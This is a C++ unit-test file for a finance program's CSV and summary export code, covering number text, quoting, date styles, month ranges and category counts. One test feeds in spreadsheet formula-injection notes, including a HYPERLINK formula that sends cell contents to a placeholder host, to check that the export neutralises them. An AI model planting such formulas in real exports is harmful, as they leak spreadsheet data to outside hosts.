// The export texts against hand-worked files: number text, quoting, notes,
// dates of both styles, the month range, the summary and the range text.
#include <gtest/gtest.h>

#include "core/RecordFile.h"
#include "export/CommaFileText.h"
#include "export/ExportNumberText.h"
#include "export/ExportRange.h"
#include "core/ReportCategoryList.h"
#include "support/ExpectedFile.h"
#include "support/TestEnv.h"

namespace tessamo {
namespace {

const MoneyFormat kMoney = MoneyFormat::Reference();

LineItemsExportOptions Options(int start, int end, const std::string& style = "A") {
    LineItemsExportOptions o;
    o.startMonth = start;
    o.endMonth = end;
    o.dateStyle = style;
    o.year = "1999";
    return o;
}

TEST(ExportNumberText, SignBlankDigitsAndOnlyTheNeededDecimals) {
    EXPECT_EQ(ExportNumberText(Money(1234.5), kMoney), " 1234.5 ");
    EXPECT_EQ(ExportNumberText(Money(-100), kMoney), "-100 ");
    EXPECT_EQ(ExportNumberText(Money(0.5), kMoney), " .5 ");
    EXPECT_EQ(ExportNumberText(Money(-0.25), kMoney), "-.25 ");
    EXPECT_EQ(ExportNumberText(Money(12.3456), kMoney), " 12.3456 ");
    EXPECT_EQ(ExportNumberText(Money(1000000), kMoney), " 1000000 ");
    EXPECT_EQ(ExportNumberText(0, kMoney), " 0 ");
}

TEST(LineItemsExport, LedgerOrderMonthRangeQuotesAndFullNotes) {
    const std::vector<LedgerRecord> ledger = {
        Line("07-02-99", "FD", Money(-20), "July, outside April to June"),
        Line("06-30-99", "FD", Money(0.5), "Say \"cheese\""),
        Line("05-10-99", "X ", Money(-100), "Groceries"),
        Line("04-15-99", "RN", Money(-500), "Rent"),
        Line("04-01-99", "ZZ", Money(7), "Not chosen"),
        Line("03-31-99", "FD", Money(-1), "March, outside"),
    };
    const auto categories = ReportCategoryRecords(
        {CategoryRecord::Make("FD", "Food"), CategoryRecord::Make("X", "Extra"), CategoryRecord::Make("RN", "Rent")});
    EXPECT_EQ(LineItemsExportText(categories, EncodeRecords(ledger), Options(4, 6)),
              ExpectedFile("export/line_items.txt"));
}

TEST(LineItemsExport, DayFirstDatesAndACategoryListedTwice) {
    const std::vector<LedgerRecord> ledger = {Line("15-04-99", "AB", Money(3), "Spring"),
                                              Line("04-05-99", "AB", Money(4), "May the fourth")};
    const auto twice = ReportCategoryRecords({CategoryRecord::Make("AB", "Misc"), CategoryRecord::Make("AB", "Misc")});
    const std::string line = "\"15-04-1999\",\"AB\",\" 3 \",\"Spring" + std::string(34, ' ') + "\"\r\n";
    EXPECT_EQ(LineItemsExportText(twice, EncodeRecords(ledger), Options(4, 4, "E")), line + line);
    EXPECT_EQ(LineItemsExportText(twice, EncodeRecords(ledger), Options(1, 12, "X")), "");
}

TEST(LineItemsExport, FormulaNotesAndCodesOpenAsTextInBothExports) {
    const std::vector<LedgerRecord> ledger = {
        Line("01-02-99", "AB", Money(-1), "=HYPERLINK(\"http://x.example/\"&C2)"),
        Line("01-03-99", "AB", Money(-1), "\"=1+1\" quoted"),
        Line("01-04-99", "AB", Money(-1), "  +1 555 0100"),
        Line("01-05-99", "AB", Money(-1), "-12.50"),
        Line("01-06-99", "AB", Money(-1), "@SUM(A1)"),
        Line("01-07-99", "-X", Money(2), "a = b, as typed"),
    };
    const auto categories = ReportCategoryRecords({CategoryRecord::Make("AB", "Misc"), CategoryRecord::Make("-X", "Odd")});
    EXPECT_EQ(LineItemsExportText(categories, EncodeRecords(ledger), Options(1, 12)),
              ExpectedFile("export/formula_notes.txt"));
    EXPECT_EQ(SummaryExportText(categories, EncodeRecords(ledger), kMoney),
              "income\r\n\"'-X\",\" 2 \"\r\nexpense\r\n\"AB\",\" 5 \"\r\n");
}

TEST(SummaryExport, IncomeThenExpenseInListOrderSkippingZeroTotals) {
    const std::vector<LedgerRecord> ledger = {
        Line("12-01-99", "SA", Money(1000), "Pay"),  Line("11-01-99", "FD", Money(-20.25), "Food"),
        Line("07-02-99", "FD", Money(-0.5), "Gum"),  Line("06-01-99", "SA", Money(234.5), "Bonus"),
        Line("05-01-99", "SA", Money(-10), "Fee"),   Line("04-01-99", "OP", 0, "Open item"),
        Line("03-01-99", "ZZ", Money(99), "Unlisted"),
    };
    const auto categories =
        ReportCategoryRecords({CategoryRecord::Make("FD", "Food"), CategoryRecord::Make("SA", "Salary"),
                               CategoryRecord::Make("OP", "Open"), CategoryRecord::Make("NO", "Nothing")});
    EXPECT_EQ(SummaryExportText(categories, EncodeRecords(ledger), kMoney),
              ExpectedFile("export/category_summary.txt"));
}

TEST(ExportRange, MonthsYearAndCategoriesWithoutTheBlankRecord) {
    EXPECT_EQ(ExportRangeText(1, 12, "1999TSM.DAT", 6), "January through December, 1999; 5 categories.");
    EXPECT_EQ(ExportRangeText(4, 6, "2001TSM.DAT", 0), "April through June, 2001; 0 categories.");

    TestEnv t;
    t.folder.Write("tempcats.$$$", std::string(18 * 3 + 5, '\0'));
    std::string text;
    ASSERT_TRUE(ExportRangeText(t.files, "tempcats.$$$", 3, 3, "1999TSM.DAT", text).ok());
    EXPECT_EQ(text, "March through March, 1999; 2 categories.");

    // All categories: a code no category holds counts, as the export lists it.
    t.PutLedger({Line("03-01-99", "FD", Money(-5), "Bread"), Line("03-02-99", "ZZ", Money(9), "Unlisted")});
    const std::vector<CategoryRecord> food = {CategoryRecord::Make("FD", "Food")};
    EXPECT_EQ(ExportRangeText(t.state, food, CategoryScope::All), "January through December, 1999; 2 categories.");
    EXPECT_EQ(ExportRangeText(t.state, food, CategoryScope::Chosen), "January through December, 1999; 1 categories.");
}

}  // namespace
}  // namespace tessamo
